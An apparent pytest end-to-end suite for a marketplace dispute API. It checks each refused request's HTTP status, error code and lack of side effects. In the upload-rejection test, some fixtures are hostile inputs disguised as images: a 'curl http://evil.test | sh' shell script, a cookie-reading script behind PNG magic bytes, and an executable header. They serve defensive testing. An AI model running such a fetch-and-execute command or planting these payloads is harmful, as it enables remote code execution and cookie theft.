"""Every refusal of API.md, over HTTP: its status and its stable code, as problem+json -- and
that the refused request changed nothing (the dispute keeps its version and status, the order
its disputes and escrow, the file store stays empty)."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from e2e.support import Caller, World, assert_problem, ok, png_bytes, running_app

DISPUTE_STATE = ("version", "status", "solutions", "evidence", "messages", "outcome", "mediation")
ORDER_STATE = ("status", "escrow", "dispute_ids", "protection_ends_at", "tracking")


def dispute_state(world: World, dispute_id: str) -> dict[str, Any]:
    body = world.dispute(dispute_id)
    return {key: body[key] for key in (*DISPUTE_STATE, "return", "refund", "description")}


def order_state(world: World, order_id: str) -> dict[str, Any]:
    body = world.get_order(order_id)
    return {key: body[key] for key in ORDER_STATE}


def stored_files(world: World) -> list[Path]:
    return [p for p in world.storage_dir.rglob("*") if p.is_file()]


@pytest.fixture
def dispute(world: World) -> dict[str, Any]:
    """An open dispute, untouched since the buyer opened it."""
    return world.open_dispute()


# --- 401 unauthenticated ------------------------------------------------------------------

BAD_CREDENTIALS = [
    pytest.param(None, id="no-header"),
    pytest.param("Bearer fd_not_a_real_token", id="unknown-token"),
    pytest.param("Bearer ", id="empty-token"),
    pytest.param("Basic dXNlcjpwYXNz", id="basic-scheme"),
    pytest.param("fd_e2e_platform_token_0123456789abcdef", id="token-without-scheme"),
]


@pytest.mark.parametrize("authorization", BAD_CREDENTIALS)
def test_requests_without_a_valid_token_are_unauthenticated(
    world: World, dispute: dict[str, Any], authorization: str | None
) -> None:
    before = dispute_state(world, dispute["id"])
    order_before = order_state(world, dispute["order_id"])
    files_before = stored_files(world)
    headers = {} if authorization is None else {"Authorization": authorization}
    stranger = Caller(world.http, None)
    for method, path, body in [
        ("GET", f"/disputes/{dispute['id']}", None),
        ("GET", "/disputes", None),
        ("GET", f"/orders/{dispute['order_id']}", None),
        ("POST", f"/disputes/{dispute['id']}/cancel", None),
        ("POST", f"/disputes/{dispute['id']}/messages", {"body": "hi"}),
        ("PATCH", f"/disputes/{dispute['id']}", {"description": "changed"}),
        ("POST", f"/orders/{dispute['order_id']}/confirm-receipt", None),
        ("POST", "/sandbox/clock/advance", {"days": 30}),
        ("GET", "/events", None),
    ]:
        response = stranger.request(method, path, headers=headers, json=body)
        assert_problem(response, 401, "unauthenticated")
        assert response.headers["www-authenticate"] == "Bearer"
    upload = stranger.request(
        "POST", "/files", headers=headers, files={"file": ("a.png", png_bytes(), "image/png")}
    )
    assert_problem(upload, 401, "unauthenticated")

    assert dispute_state(world, dispute["id"]) == before
    assert order_state(world, dispute["order_id"]) == order_before
    assert stored_files(world) == files_before


# --- 403 forbidden: a party acting outside its role ---------------------------------------


def test_a_seller_cannot_cancel(world: World, dispute: dict[str, Any]) -> None:
    before = dispute_state(world, dispute["id"])
    body = assert_problem(world.seller.post(f"/disputes/{dispute['id']}/cancel"), 403, "forbidden")
    assert "seller" in body["detail"]
    assert dispute_state(world, dispute["id"]) == before


def test_a_buyer_cannot_finalize_a_decision(world: World, dispute: dict[str, Any]) -> None:
    world.escalate_by_timeout(dispute)
    decided = world.act(
        world.mediator,
        dispute,
        "decisions",
        {"solutions": [{"kind": "refund_only", "amount": "20.00"}], "rationale": "Half."},
        201,
    )
    decision_id = decided["mediation"]["decision"]["id"]
    before = dispute_state(world, dispute["id"])
    for party in (world.buyer, world.seller):
        assert_problem(
            party.post(f"/disputes/{dispute['id']}/decisions/{decision_id}/finalize"),
            403,
            "forbidden",
        )
    after = dispute_state(world, dispute["id"])
    assert after == before
    assert after["mediation"]["decision"]["status"] == "proposed"


@pytest.mark.parametrize("role", ["buyer", "seller", "mediator"])
def test_only_the_platform_creates_orders_and_users(world: World, role: str) -> None:
    caller: Caller = getattr(world, role)
    orders_before = ok(world.platform.get("/orders"))["data"]
    assert_problem(caller.post("/orders", world.order_body()), 403, "forbidden")
    assert ok(world.platform.get("/orders"))["data"] == orders_before

    refused = caller.post(
        "/users", {"role": "buyer", "name": "Mallory", "email": "mallory@e2e.test"}
    )
    assert_problem(refused, 403, "forbidden")
    assert "api_token" not in refused.json()


def test_a_buyer_cannot_ship_and_a_seller_cannot_confirm_receipt(world: World) -> None:
    order = world.order()
    assert_problem(
        world.buyer.post(
            f"/orders/{order['id']}/ship",
            {"carrier": "DHL", "tracking_number": "X", "protection_days": 30},
        ),
        403,
        "forbidden",
    )
    assert order_state(world, order["id"])["status"] == "awaiting_shipment"
    world.ship(order)
    before = order_state(world, order["id"])
    assert_problem(world.seller.post(f"/orders/{order['id']}/confirm-receipt"), 403, "forbidden")
    assert order_state(world, order["id"]) == before


def test_the_platform_cannot_act_for_a_party(world: World, dispute: dict[str, Any]) -> None:
    before = dispute_state(world, dispute["id"])
    primary = dispute["solutions"][0]["id"]
    for path, body in [
        (f"/disputes/{dispute['id']}/cancel", None),
        (f"/disputes/{dispute['id']}/solutions/{primary}/accept", None),
        (f"/disputes/{dispute['id']}/messages", {"body": "Platform here."}),
        (f"/disputes/{dispute['id']}/evidence", {"file_id": "file_anything"}),
    ]:
        assert_problem(world.platform.post(path, body), 403, "forbidden")
    assert dispute_state(world, dispute["id"]) == before


def test_touching_the_other_partys_solution_or_evidence_is_forbidden(
    world: World, dispute: dict[str, Any]
) -> None:
    before = dispute_state(world, dispute["id"])
    solution = dispute["solutions"][0]["id"]
    evidence = dispute["evidence"][0]["id"]
    for response in (
        world.seller.patch(f"/disputes/{dispute['id']}/solutions/{solution}", {"comment": "x"}),
        world.buyer.post(f"/disputes/{dispute['id']}/solutions/{solution}/accept"),
        world.seller.delete(f"/disputes/{dispute['id']}/evidence/{evidence}"),
    ):
        assert_problem(response, 403, "forbidden")
    assert dispute_state(world, dispute["id"]) == before


# --- 404: someone else's dispute or order -----------------------------------------------


def test_another_buyers_dispute_and_order_are_not_found(
    world: World, dispute: dict[str, Any]
) -> None:
    before = dispute_state(world, dispute["id"])
    order_before = order_state(world, dispute["order_id"])
    for stranger in (world.other_buyer, world.other_seller):
        seen = assert_problem(stranger.get(f"/disputes/{dispute['id']}"), 404, "not_found")
        missing = assert_problem(stranger.get("/disputes/dsp_does_not_exist"), 404, "not_found")
        # Indistinguishable from a dispute that does not exist.
        assert (seen["type"], seen["title"]) == (missing["type"], missing["title"])
        assert_problem(stranger.get(f"/orders/{dispute['order_id']}"), 404, "not_found")
        assert dispute["id"] not in [d["id"] for d in ok(stranger.get("/disputes"))["data"]]
        assert dispute["order_id"] not in [o["id"] for o in ok(stranger.get("/orders"))["data"]]
        assert_problem(
            stranger.post(f"/disputes/{dispute['id']}/messages", {"body": "hi"}), 404, "not_found"
        )
        assert_problem(
            stranger.get(f"/files/{dispute['evidence'][0]['file_id']}"), 404, "not_found"
        )
    assert_problem(world.other_buyer.post(f"/disputes/{dispute['id']}/cancel"), 404, "not_found")
    assert_problem(
        world.other_buyer.post(f"/orders/{dispute['order_id']}/confirm-receipt"), 404, "not_found"
    )
    order = world.get_order(dispute["order_id"])
    other_item = world.dispute_body(
        order, buyer=world.other_buyer, item_ids=[order["items"][1]["id"]], amount="1.00"
    )
    assert_problem(world.other_buyer.post("/disputes", other_item), 404, "not_found")
    assert dispute_state(world, dispute["id"]) == before
    assert order_state(world, dispute["order_id"]) == order_before


# --- 409 invalid_transition ---------------------------------------------------------------


def test_accepting_on_a_closed_dispute_is_an_invalid_transition(
    world: World, dispute: dict[str, Any]
) -> None:
    world.advance(days=7)  # the seller's silence closes it
    before = dispute_state(world, dispute["id"])
    assert before["status"] == "closed"
    primary = dispute["solutions"][0]["id"]
    assert_problem(
        world.seller.post(f"/disputes/{dispute['id']}/solutions/{primary}/accept"),
        409,
        "invalid_transition",
    )
    assert_problem(
        world.seller.post(
            f"/disputes/{dispute['id']}/solutions", {"kind": "refund_only", "amount": "1.00"}
        ),
        409,
        "invalid_transition",
    )
    assert_problem(world.buyer.post(f"/disputes/{dispute['id']}/cancel"), 409, "invalid_transition")
    assert dispute_state(world, dispute["id"]) == before


# --- 422 not_eligible and 409 dispute_exists --------------------------------------------


def test_an_unshipped_order_cannot_be_disputed(world: World) -> None:
    order = world.order()
    body = assert_problem(
        world.buyer.post("/disputes", world.dispute_body(order)), 422, "not_eligible"
    )
    assert "shipped" in body["detail"]
    assert world.get_order(order["id"])["dispute_ids"] == []


def test_not_received_opens_only_ten_days_after_shipping(world: World) -> None:
    order = world.shipped_order()
    request = world.dispute_body(order, reason="not_received", evidence_file_ids=[])
    body = assert_problem(world.buyer.post("/disputes", request), 422, "not_eligible")
    assert "10 days" in body["detail"]
    assert order_state(world, order["id"])["dispute_ids"] == []

    world.advance(days=10)
    assert ok(world.buyer.post("/disputes", request), 201)["reason"] == "not_received"


def test_a_second_dispute_on_the_same_item_already_exists(
    world: World, dispute: dict[str, Any]
) -> None:
    order = world.get_order(dispute["order_id"])
    before = order_state(world, order["id"])
    for overlap in ([order["items"][0]["id"]], None):  # the same item, or the whole order
        assert_problem(
            world.buyer.post("/disputes", world.dispute_body(order, item_ids=overlap)),
            409,
            "dispute_exists",
        )
    assert order_state(world, order["id"]) == before
    # The other item is free.
    other = world.dispute_body(order, item_ids=[order["items"][1]["id"]], amount="10.00")
    assert ok(world.buyer.post("/disputes", other), 201)


# --- 422 amount_out_of_range --------------------------------------------------------------


@pytest.mark.parametrize(
    "amount",
    [
        pytest.param("0.00", id="zero"),
        pytest.param("40.01", id="above-paid"),
        pytest.param({"currency": "EUR", "value": "0.00"}, id="zero-money-object"),
        pytest.param({"currency": "EUR", "value": "55.00"}, id="order-total-for-one-item"),
    ],
)
def test_a_claim_outside_minimum_and_paid_is_out_of_range(world: World, amount: Any) -> None:
    order = world.shipped_order()
    assert_problem(
        world.buyer.post("/disputes", world.dispute_body(order, amount=amount)),
        422,
        "amount_out_of_range",
    )
    assert world.get_order(order["id"])["dispute_ids"] == []


def test_rub_claims_start_at_one_rouble(world: World) -> None:
    order = world.shipped_order(currency="RUB", prices=("500.00",), shipping="0.00")
    for below in ("0.99", "0.01"):
        assert_problem(
            world.buyer.post("/disputes", world.dispute_body(order, amount=below)),
            422,
            "amount_out_of_range",
        )
    assert world.get_order(order["id"])["dispute_ids"] == []
    opened = ok(world.buyer.post("/disputes", world.dispute_body(order, amount="1.00")), 201)
    assert opened["solutions"][0]["amount"] == {"currency": "RUB", "value": "1.00"}


def test_a_seller_offer_above_the_price_is_out_of_range(
    world: World, dispute: dict[str, Any]
) -> None:
    before = dispute_state(world, dispute["id"])
    assert_problem(
        world.seller.post(
            f"/disputes/{dispute['id']}/solutions", {"kind": "refund_only", "amount": "40.01"}
        ),
        422,
        "amount_out_of_range",
    )
    assert dispute_state(world, dispute["id"]) == before


# --- 422 validation_error -----------------------------------------------------------------


@pytest.mark.parametrize(
    "amount",
    [
        pytest.param(12.5, id="float"),
        pytest.param(12, id="integer"),
        pytest.param("1e3", id="exponent"),
        pytest.param("NaN", id="nan"),
        pytest.param("Infinity", id="infinity"),
        pytest.param("12.345", id="three-decimals-in-eur"),
        pytest.param("12,50", id="decimal-comma"),
        pytest.param(" 12.50", id="leading-space"),
        pytest.param({"currency": "EUR", "value": 12.5}, id="float-in-money-object"),
        pytest.param({"currency": "USD", "value": "12.50"}, id="other-currency"),
        pytest.param({"currency": "EUR", "value": "12.50", "rate": "1"}, id="extra-money-field"),
    ],
)
def test_amounts_that_are_not_exact_decimal_strings_are_invalid(world: World, amount: Any) -> None:
    order = world.shipped_order()
    body = assert_problem(
        world.buyer.post("/disputes", world.dispute_body(order, amount=amount)),
        422,
        "validation_error",
    )
    assert "amount" in body["detail"]
    assert world.get_order(order["id"])["dispute_ids"] == []


def test_a_zero_decimal_currency_refuses_any_decimals(world: World) -> None:
    orders_before = ok(world.platform.get("/orders"))["data"]
    refused = world.platform.post(
        "/orders", world.order_body(currency="JPY", prices=("1200.5",), shipping="0")
    )
    assert_problem(refused, 422, "validation_error")
    order = world.shipped_order(currency="JPY", prices=("1200",), shipping="0")
    assert order["total"] == {"currency": "JPY", "value": "1200"}
    assert_problem(
        world.buyer.post("/disputes", world.dispute_body(order, amount="100.0")),
        422,
        "validation_error",
    )
    assert len(ok(world.platform.get("/orders"))["data"]) == len(orders_before) + 1


@pytest.mark.parametrize(
    "unit_price", [12.5, "1e3", "NaN", "12.345"], ids=["float", "exponent", "nan", "decimals"]
)
def test_an_order_with_an_inexact_price_is_invalid(world: World, unit_price: Any) -> None:
    orders_before = ok(world.platform.get("/orders"))["data"]
    body = world.order_body()
    body["items"][0]["unit_price"] = unit_price
    assert_problem(world.platform.post("/orders", body), 422, "validation_error")
    assert ok(world.platform.get("/orders"))["data"] == orders_before


def test_unknown_fields_are_refused(world: World, dispute: dict[str, Any]) -> None:
    before = dispute_state(world, dispute["id"])
    body = assert_problem(
        world.buyer.patch(f"/disputes/{dispute['id']}", {"description": "x", "status": "closed"}),
        422,
        "validation_error",
    )
    assert "status" in body["detail"]
    order = world.shipped_order()
    assert_problem(
        world.buyer.post("/disputes", world.dispute_body(order, priority="high")),
        422,
        "validation_error",
    )
    assert dispute_state(world, dispute["id"]) == before
    assert world.get_order(order["id"])["dispute_ids"] == []


@pytest.mark.parametrize(
    "raw",
    [
        pytest.param(b'{"order_id": "x", ', id="truncated-json"),
        pytest.param(b"not json at all", id="not-json"),
        pytest.param(b'{"order_id": "\xff\xfe", "reason": "damaged"}', id="not-utf8"),
        pytest.param("{}".encode("utf-16"), id="utf16"),
        pytest.param(b"", id="empty-body"),
        pytest.param(b"[]", id="array"),
    ],
)
def test_malformed_bodies_are_validation_errors(
    world: World, dispute: dict[str, Any], raw: bytes
) -> None:
    before = dispute_state(world, dispute["id"])
    order_before = order_state(world, dispute["order_id"])
    assert_problem(world.buyer.post_raw("/disputes", raw), 422, "validation_error")
    assert_problem(
        world.seller.post_raw(f"/disputes/{dispute['id']}/solutions", raw),
        422,
        "validation_error",
    )
    assert_problem(world.platform.post_raw("/orders", raw), 422, "validation_error")
    assert dispute_state(world, dispute["id"]) == before
    assert order_state(world, dispute["order_id"]) == order_before


def test_malformed_headers_and_queries_are_validation_errors(
    world: World, dispute: dict[str, Any]
) -> None:
    before = dispute_state(world, dispute["id"])
    assert_problem(
        world.buyer.post(
            f"/disputes/{dispute['id']}/messages", {"body": "hi"}, headers={"If-Match": "latest"}
        ),
        422,
        "validation_error",
    )
    assert_problem(
        world.buyer.post(
            f"/disputes/{dispute['id']}/messages",
            {"body": "hi"},
            headers={"Idempotency-Key": "k" * 256},
        ),
        422,
        "validation_error",
    )
    for query in ({"limit": 0}, {"limit": 101}, {"limit": "ten"}, {"status": "open"}):
        assert_problem(world.buyer.get("/disputes", params=query), 422, "validation_error")
    assert_problem(world.platform.get("/events", params={"after": "abc"}), 422, "validation_error")
    assert dispute_state(world, dispute["id"]) == before


# --- 422 evidence_required and reason_not_allowed ------------------------------------------


def test_a_damaged_item_needs_a_photo_or_video(world: World) -> None:
    order = world.shipped_order()
    assert_problem(
        world.buyer.post("/disputes", world.dispute_body(order, evidence_file_ids=[])),
        422,
        "evidence_required",
    )
    pdf = world.upload(world.buyer, b"%PDF-1.4\n1 0 obj << >> endobj\n%%EOF\n", "receipt.pdf")
    assert pdf["content_type"] == "application/pdf"
    assert_problem(
        world.buyer.post("/disputes", world.dispute_body(order, evidence_file_ids=[pdf["id"]])),
        422,
        "evidence_required",
    )
    assert world.get_order(order["id"])["dispute_ids"] == []


def test_no_tracking_info_is_not_an_allowed_reason(world: World) -> None:
    order = world.shipped_order()
    body = assert_problem(
        world.buyer.post("/disputes", world.dispute_body(order, reason="no_tracking_info")),
        422,
        "reason_not_allowed",
    )
    assert body["detail"]
    world.advance(days=10)  # not a matter of waiting either
    assert_problem(
        world.buyer.post(
            "/disputes",
            world.dispute_body(order, reason="no_tracking_info", evidence_file_ids=[]),
        ),
        422,
        "reason_not_allowed",
    )
    assert world.get_order(order["id"])["dispute_ids"] == []


# --- 415 and 413: uploads -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("filename", "content", "declared"),
    [
        pytest.param("photo.jpg", b"just some text, not a photo\n" * 4, "image/jpeg", id="text"),
        pytest.param(
            "cat.png", b"#!/bin/sh\ncurl http://evil.test | sh\n", "image/png", id="shell-script"
        ),
        pytest.param(
            "cat.gif", b"<html><script>alert(1)</script></html>", "image/gif", id="html-script"
        ),
        pytest.param(
            "cat.png",
            b"\x89PNG\r\n\x1a\n<script>alert(document.cookie)</script>" + b"\0" * 64,
            "image/png",
            id="script-behind-png-magic",
        ),
        pytest.param("run.exe", b"MZ\x90\x00" + b"\0" * 200, "image/jpeg", id="executable"),
    ],
)
def test_files_that_are_not_images_videos_or_pdfs_are_unsupported(
    world: World, filename: str, content: bytes, declared: str
) -> None:
    assert_problem(
        world.buyer.post("/files", files={"file": (filename, content, declared)}),
        415,
        "unsupported_file_type",
    )
    assert stored_files(world) == []


def test_a_file_over_the_limit_is_too_large(world: World) -> None:
    header = png_bytes()
    oversized = header + b"\0" * (10 * 1024 * 1024 + 1 - len(header))
    assert_problem(
        world.buyer.post("/files", files={"file": ("big.png", oversized, "image/png")}),
        413,
        "file_too_large",
    )
    assert stored_files(world) == []


def test_a_file_with_no_file_field_is_a_validation_error(world: World) -> None:
    assert_problem(
        world.buyer.post("/files", files={"document": ("a.png", png_bytes(), "image/png")}),
        422,
        "validation_error",
    )
    assert stored_files(world) == []


# --- idempotency keys ---------------------------------------------------------------------


def test_a_repeated_request_replays_the_first_answer_without_acting_again(world: World) -> None:
    order = world.shipped_order()
    request = world.dispute_body(order)
    key = {"Idempotency-Key": "open-dispute-1"}

    first = world.buyer.post("/disputes", request, headers=key)
    again = world.buyer.post("/disputes", request, headers=key)
    assert first.status_code == again.status_code == 201
    assert again.content == first.content
    assert again.headers["etag"] == first.headers["etag"]
    assert again.headers.get("idempotent-replayed") == "true"
    assert world.get_order(order["id"])["dispute_ids"] == [first.json()["id"]]
    opened = [e for e in world.events() if e["type"] == "dispute.opened"]
    assert len(opened) == 1

    # The same key with another body is refused, and does not act either.
    changed = dict(request, description="Something else.")
    assert_problem(
        world.buyer.post("/disputes", changed, headers=key), 422, "idempotency_key_reused"
    )
    assert world.get_order(order["id"])["dispute_ids"] == [first.json()["id"]]

    # An action on the dispute: the message is posted once.
    dispute_id = first.json()["id"]
    message_key = {"Idempotency-Key": "msg-1"}
    posted = world.seller.post(
        f"/disputes/{dispute_id}/messages", {"body": "On my way."}, headers=message_key
    )
    replayed = world.seller.post(
        f"/disputes/{dispute_id}/messages", {"body": "On my way."}, headers=message_key
    )
    assert (posted.status_code, posted.content) == (replayed.status_code, replayed.content)
    after = world.dispute(dispute_id)
    assert [m["body"] for m in after["messages"]] == ["On my way."]
    assert after["version"] == posted.json()["version"]


def test_a_refusal_is_replayed_too(world: World) -> None:
    order = world.order()  # not shipped: the dispute is refused
    request = world.dispute_body(order)
    key = {"Idempotency-Key": "refused-once"}
    first = world.buyer.post("/disputes", request, headers=key)
    assert_problem(first, 422, "not_eligible")
    world.ship(order)
    # The order is eligible now, but the key answers as it did the first time.
    again = world.buyer.post("/disputes", request, headers=key)
    assert (again.status_code, again.content) == (first.status_code, first.content)
    assert world.get_order(order["id"])["dispute_ids"] == []
    # A new key acts.
    assert ok(world.buyer.post("/disputes", request, headers={"Idempotency-Key": "k2"}), 201)


# --- 429 rate_limited ---------------------------------------------------------------------


@pytest.fixture
def limited(world: World, db_url: str, tmp_path: Path) -> Iterator[Any]:
    """A second API process on the same database, allowing two writes a minute per token."""
    with running_app(db_url, tmp_path / "files", rate_limit_writes_per_minute=2) as (_, http):
        yield http


def test_writes_over_the_limit_are_rate_limited(
    world: World, dispute: dict[str, Any], limited: Any
) -> None:
    buyer = Caller(limited, world.buyer.token)
    path = f"/disputes/{dispute['id']}/messages"
    ok(buyer.post(path, {"body": "one"}), 201)
    ok(buyer.post(path, {"body": "two"}), 201)
    before = dispute_state(world, dispute["id"])

    refused = buyer.post(path, {"body": "three"})
    assert_problem(refused, 429, "rate_limited")
    assert int(refused.headers["retry-after"]) >= 1
    assert_problem(buyer.post(f"/disputes/{dispute['id']}/cancel"), 429, "rate_limited")
    assert dispute_state(world, dispute["id"]) == before
    assert [m["body"] for m in before["messages"]] == ["one", "two"]

    # Reads are not limited, and another user's writes have their own allowance.
    assert ok(buyer.get(f"/disputes/{dispute['id']}"))["version"] == before["version"]
    ok(Caller(limited, world.seller.token).post(path, {"body": "seller"}), 201)


# --- every error has the same form ------------------------------------------------------


def test_unknown_paths_and_methods_are_problems_too(world: World) -> None:
    assert_problem(world.buyer.get("/no-such-thing"), 404, "not_found")
    response = world.buyer.request("PUT", "/disputes")
    assert response.status_code == 405
    assert response.headers["content-type"].startswith("application/problem+json")
    assert json.loads(response.content)["status"] == 405
